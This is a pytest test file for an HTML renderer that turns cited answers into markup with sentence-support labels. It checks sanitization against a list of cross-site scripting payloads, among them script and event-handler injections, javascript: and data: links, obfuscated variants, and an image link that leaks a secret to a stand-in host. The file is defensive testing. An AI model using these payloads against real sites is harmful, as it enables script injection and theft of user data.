"""Answers as HTML: no letter lost, no tag of anybody else's, each sentence told by its support."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from byline.web.article.answer_html import MARKDOWN_CHARS_MAX, AnswerLabels, AnswerText, Typesetter

SETTER = Typesetter()
LABELS = AnswerLabels()
VOID = {"br", "hr"}
TAGS = {
    *("p", "br", "em", "strong", "s", "code", "pre", "blockquote", "hr", "ul", "ol", "li"),
    *("h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a", "span"),
}
ATTRIBUTES = {"href", "class", "data-n", "data-sentence", "aria-label", "rel", "start"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/documents/1/remove)",
    "[x](#source-1)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/leak?q=secret)",
    "![x](javascript:alert(1))",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    '[x](http://a.example "onmouseover=alert(1)")',
    '[x](http://a.example/"onmouseover=alert(1))',
    "[1]: javascript:alert(1)\n\n[1]",
    "[x][1]\n\n[1]: http://evil.example",
    "```<script>\nalert(1)\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<!--<script>alert(1)</script>-->",
    "<style>*{background:url(//evil)}</style>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<p class=notice style=position:fixed id=main>",
    "| <img src=x> |\n|---|\n| <script> |",
    "<" * 300 + "script>",
    "\u202e<script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


class Page(HTMLParser):
    """What a browser would make of it: tags, attributes, text, and whether tags nest."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


def spans(text: str, *parts: tuple[str, str]) -> list[dict[str, Any]]:
    """Checked sentences: each (words, support), found in the text one after the other."""
    found, at = [], 0
    for words, support in parts:
        start = text.index(words, at)
        at = start + len(words)
        found.append({"start": start, "end": at, "support": support})
    return found


def html(text: str, sentences: Any = (), numbers: tuple[int, ...] = (1, 2, 3), at: str = "") -> str:
    return SETTER.markdown(AnswerText(text, sentences, frozenset(numbers), at), LABELS)


def plain(text: str) -> str:
    return SETTER.plain(AnswerText(text, (), frozenset((1, 2, 3))), LABELS)


def letters(text: str) -> str:
    return "".join(char for char in text if char.isalpha())


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize(
    "around", ["{}", "- {}", "> {}", "**{}** [1]", "a\n\n{}\n\nb", "| {} |\n|-|\n| {} |"]
)
def test_no_tag_and_no_address_of_anybody_elses_comes_through(payload: str, around: str) -> None:
    text = around.replace("{}", payload)
    for made in (html(text, spans(text, (text, "weak"))), plain(text)):
        page = Page(made)
        assert page.tags <= TAGS
        assert page.attributes <= ATTRIBUTES
        for link in page.links:
            assert re.match(r"(#(source|check)-\d+$|https?://|mailto:)", link), link


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "[1]", "**", "_", "`", "\n\n", "\n", "- ", "> ", "|", " ", "[", "](", "<"]
        ),
        max_size=12,
    ).map("".join),
    st.lists(st.tuples(st.integers(0, 300), st.integers(0, 300)), max_size=4),
)
def test_whatever_is_put_together_stays_within_the_list(
    text: str, places: list[tuple[int, int]]
) -> None:
    sentences = [
        {"start": min(place), "end": max(place), "support": "unsupported", "attributed": [2]}
        for place in sorted(places)
    ]
    page = Page(html(text, sentences))
    assert page.tags <= TAGS
    assert page.attributes <= ATTRIBUTES


@given(st.text("ab가나 \n*_#>-[]|+.!1`", max_size=120), st.lists(st.integers(0, 120), max_size=6))
@example("a\n    b", [])
@example("# a\n\n[1]: b", [0, 3])
@example("a|b\n-|-\n가|나", [2, 9])
def test_no_letter_is_lost_or_moved_wherever_sentences_begin(text: str, cuts: list[int]) -> None:
    text = re.sub(r"`{3,}", "``", text)  # after a fence stands the name of a language
    ends = sorted(set(cuts))
    sentences = [{"start": a, "end": b, "support": "supported"} for a, b in pairwise(ends)]
    assert letters(Page(html(text, sentences)).text) == letters(text)


@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=200))
@example("<b>&amp;</b> # *x* _y_ `z` [1] \\[2] ![a](b)\n    c\n\n- d")
def test_words_of_documents_are_set_letter_for_letter(text: str) -> None:
    shown = "".join(Page(plain(text)).text.split())
    assert shown == re.sub(r"\[([123])\]", r"\1", "".join(text.split()))


def test_sentences_keep_their_support_across_emphasis_code_and_lists() -> None:
    text = (
        "Rent is **900 euros** a month [1]. Pay by `the third` [2].\n\n- Deposit: *two* months [3]"
    )
    made = html(
        text,
        spans(
            text,
            ("Rent is **900 euros** a month [1].", "supported"),
            ("Pay by `the third` [2].", "weak"),
            ("Deposit: *two* months [3]", "unsupported"),
        ),
    )
    told: dict[str, str] = {}
    for named, number, inner in re.findall(
        r'<span class="(\w+)" data-sentence="(\d)">(.*?)</span>', made
    ):
        told[f"{number} {named}"] = told.get(f"{number} {named}", "") + re.sub("<[^>]+>", "", inner)
    assert told == {
        "1 supported": "Rent is 900 euros a month1.",
        "2 weak": "Pay by the third2.?",
        "3 unsupported": "Deposit: two months3!",
    }


def test_numerals_lead_to_their_sources_and_say_so_aloud() -> None:
    made = html("So it is [1][3].", at="t2-")
    assert '<a class="mark" href="#t2-source-1" data-n="1" aria-label="source 1"' in made
    assert Page(made).text.strip() == "So it is13."


@pytest.mark.parametrize(
    "text", ["See [9].", "`[1]`", "[see [1]](http://a.example)", "```\n[1]\n```"]
)
def test_what_is_no_citation_of_a_source_stays_as_it_was(text: str) -> None:
    made = html(text)
    assert 'class="mark"' not in made
    assert re.search(r"\[[19]\]", Page(made).text)


def test_a_sentence_in_doubt_is_marked_once_at_its_end_and_not_by_colour_alone() -> None:
    text = "It **may** be so [1], *perhaps* [2]."
    made = html(text, spans(text, (text, "unsupported")))
    assert made.count('class="doubt unsupported"') == 1
    assert made.rstrip().endswith('rel="noopener nofollow">!</a></span></p>')
    assert 'href="#check-1"' in made


def test_what_byline_found_itself_is_told_from_what_was_cited() -> None:
    made = html(
        "Rent is due.", [{"start": 0, "end": 12, "support": "supported", "attributed": [2, 9]}]
    )
    assert made.count("mark found") == 1
    assert 'aria-label="found by Byline in source 2"' in made


def test_links_lead_out_without_telling_and_without_standing() -> None:
    made = html("[a](https://a.example/?x=1&y=2) <mailto:b@c.example>")
    assert 'href="https://a.example/?x=1&amp;y=2" rel="noopener nofollow"' in made
    assert 'href="mailto:b@c.example"' in made


def test_pictures_are_their_words_and_load_nothing() -> None:
    made = html("See ![the *first* page](https://a.example/x.png).")
    assert Page(made).text.strip() == "See the first page."
    assert "a.example" not in made


def test_tables_lists_headings_and_code_are_kept() -> None:
    made = html(
        "# One\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. x\n4. y\n\n```python\nz = 1\n```\n\n~~no~~"
    )
    assert "<h2>One</h2>" in made
    assert '<td class="right">2</td>' in made
    assert '<ol start="3">' in made
    assert "<pre><code>z = 1\n</code></pre>" in made
    assert "<s>no</s>" in made


def test_headings_begin_below_the_pages_own_and_skip_no_level() -> None:
    made = html("### a\n\n###### b\n\n## c\n\n### d")
    assert re.findall(r"<h(\d)>(\w)", made) == [("2", "a"), ("3", "b"), ("2", "c"), ("3", "d")]


def test_lines_stay_lines() -> None:
    assert html("one\ntwo").count("<br>") == 1
    assert plain("one\ntwo\n\nthree").count("<br>") == 1


@pytest.mark.parametrize(
    "text",
    [
        *("*a* [1]. " * 23_000, "> " * 5_000 + "a", "[" * 20_000, "*a _b " * 3_000),
        "a" + " " * 1_000_000 + "b",
    ],
)
def test_an_endless_answer_is_set_in_bounded_time(text: str) -> None:
    assert html(text, [{"start": 0, "end": len(text), "support": "weak"}])
    assert len("*a* [1]. " * 23_000) > MARKDOWN_CHARS_MAX
